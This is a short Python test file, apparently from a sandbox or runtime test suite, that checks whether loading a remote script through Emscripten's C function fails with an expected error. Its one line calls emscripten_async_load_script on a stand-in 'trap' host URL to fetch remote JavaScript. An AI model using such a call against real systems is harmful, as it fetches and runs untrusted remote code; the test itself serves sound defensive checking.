"""Load a script with Emscripten's C function for it.

Ends: exit code 1
Prints: loading
Prints: AttributeError: function 'emscripten_
"""

import ctypes
import time

print("loading", flush=True)
ctypes.CDLL(None).emscripten_async_load_script(b"http://trap/secret.js", None, None)
time.sleep(0.05)
